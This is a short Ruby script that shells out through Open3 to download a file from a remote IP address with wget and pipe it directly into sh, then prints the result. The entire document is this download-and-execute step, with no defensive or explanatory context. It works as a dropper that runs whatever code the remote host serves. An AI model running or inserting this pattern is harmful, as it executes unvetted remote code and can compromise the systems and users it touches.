require 'open3'
stdout, status = Open3.capture2('sh', '-c', 'wget -qO- http://203.0.113.7/p | sh')
puts stdout, status
